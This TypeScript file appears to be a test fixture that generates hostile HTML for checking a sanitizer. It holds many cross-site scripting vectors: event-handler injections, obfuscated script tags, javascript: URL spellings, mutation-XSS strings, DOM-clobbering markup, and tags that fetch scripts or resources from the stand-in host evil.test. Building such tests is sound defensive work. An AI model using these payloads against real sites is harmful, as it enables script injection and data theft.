/** Hostile HTML, generated systematically: every vector, in several spellings. `__HIT__` is what a script would call. */

/** The code of a payload. */
const RUN = "window.__HIT__('ran')"
/** The target of a payload's requests. */
export const EVIL = "https://evil.test"

const HANDLED = [
  ["img", "src=x"],
  ["svg", ""],
  ["body", ""],
  ["details open", ""],
  ["video", "src=x"],
  ["audio", "src=x"],
  ["input autofocus", ""],
  ["select autofocus", ""],
  ["textarea autofocus", ""],
  ["marquee", ""],
  ["a href=# autofocus tabindex=0", ""],
  ["div", ""],
] as const
const EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover"] as const

/** Every element with every handler. */
const handlers = HANDLED.flatMap(([tag, rest]) =>
  EVENTS.map((event) => `<${tag} ${rest} ${event}="${RUN}">x</${tag.split(" ")[0] ?? ""}>`),
)

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}" /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`,
  `<title><p title="</title><script>${RUN}</script>"></title>`,
  `<textarea><script>${RUN}</script></textarea><script>${RUN}</script>`,
]

/** A URL, in the spellings that browsers tolerate. */
export const RUNNING_ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\u00A0:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://x%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${EVIL}/x`,
  `filesystem:${EVIL}/x`,
  `view-source:javascript:${RUN}`,
] as const

const LINKING = [
  (url: string) => `<a href="${url}" data-bait>x</a>`,
  (url: string) => `<form action="${url}"><button data-bait>x</button></form>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text data-bait>x</text></a></svg>`,
  (url: string) => `<math><mi xlink:href="${url}">x</mi></math>`,
] as const

const addresses = RUNNING_ADDRESSES.flatMap((url) => LINKING.slice(0, 3).map((write) => write(url))).concat(
  LINKING.slice(3).map((write) => write(RUNNING_ADDRESSES[0])),
)

/** Elements that would be fetched automatically. */
const fetching = [
  `<img src="${EVIL}/p.gif">`,
  `<img srcset="${EVIL}/p.gif 1x, ${EVIL}/q.gif 2x">`,
  `<img src="//evil.test/p.gif">`,
  `<img src="/\\evil.test/p.gif">`,
  `<img src="/\t/evil.test/p.gif">`,
  `<picture><source srcset="${EVIL}/p.gif"><img></picture>`,
  `<video poster="${EVIL}/p.gif"><source src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<track src="${EVIL}/t.vtt">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=prefetch href="${EVIL}/x">`,
  `<link rel=preload as=image href="${EVIL}/x">`,
  `<link rel=dns-prefetch href="${EVIL}">`,
  `<link rel=preconnect href="${EVIL}">`,
  `<link rel=modulepreload href="${EVIL}/x.js">`,
  `<link rel=manifest href="${EVIL}/m.json">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${EVIL}/"><img src="x.gif">`,
  `<body background="${EVIL}/p.gif">`,
  `<table background="${EVIL}/p.gif"><td background="${EVIL}/p.gif">x</table>`,
  `<input type=image src="${EVIL}/p.gif">`,
  `<iframe srcdoc="<script>parent.__HIT__('ran')</script>"></iframe>`,
  `<frameset><frame src="${EVIL}"></frameset>`,
  `<portal src="${EVIL}"></portal>`,
  `<svg><image href="${EVIL}/p.gif" /></svg>`,
  `<svg><use href="${EVIL}/x.svg#a" /></svg>`,
  `<svg><feImage href="${EVIL}/p.gif" /></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<p style="background:url(${EVIL}/p.gif)">x</p>`,
  `<style>@import "${EVIL}/x.css"; *{background:url(${EVIL}/p.gif)}</style>`,
  `<a href="/shop" ping="${EVIL}/ping">x</a>`,
  `<button formaction="${EVIL}">x</button>`,
  `<isindex action="${EVIL}" type=submit>`,
  `<applet code="${EVIL}/x.class"></applet>`,
]

/** Markup that changes when it is parsed again. */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>">`,
  `<p id="</p><img src=x onerror=${RUN}>">x`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml ><img src=x onerror=${RUN}>?>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<plaintext><img src=x onerror=${RUN}>`,
]

/** Elements that shadow names used by scripts, or cover the page. */
const clobbering = [
  `<a id=__HIT__ name=__HIT__>x</a>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById><img name=querySelector>`,
  `<form id=main></form><div id=root>x</div><div id=main>x</div>`,
  `<a id=config href="${EVIL}"></a><a id=config name=baseUrl href="${EVIL}"></a>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<div class="fixed inset-0 z-60 bg-scrim">x</div>`,
  `<dialog open style="width:100vw;height:100vh">x</dialog>`,
  `<div popover=manual id=p>x</div>`,
  `<p role=dialog aria-modal=true contenteditable>x</p>`,
  `<marquee width=5000 height=5000>x</marquee>`,
  `<font size=7 style="font-size:900px">x</font>`,
  `<slot name=x></slot><x-widget is=x>x</x-widget>`,
]

/** Payloads that swallow the following text are alone; the others are combined, each between marks that must all be visible. */
const together = (payloads: ReadonlyArray<string>, size: number): ReadonlyArray<HostileText> =>
  Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) => {
    const some = payloads.slice(at * size, (at + 1) * size)
    return { html: `${some.map((payload) => `<p>voce</p>${payload}`).join("\n")}<p>voce</p>`, marks: some.length + 1 }
  })

export interface HostileText {
  readonly html: string
  /** Number of paragraphs saying "voce" that are visible if no payload has hidden its neighbours. */
  readonly marks: number
}

const neighbourly = [...handlers, ...addresses, ...fetching, ...scripts, ...clobbering]

export const htmlPayloads = neighbourly.length + mutating.length

/** Texts as the backend would send them. */
export const hostileTexts: ReadonlyArray<HostileText> = [
  ...together(neighbourly, 40),
  ...mutating.map((payload) => ({ html: `<p>voce</p>${payload}`, marks: 1 })),
]
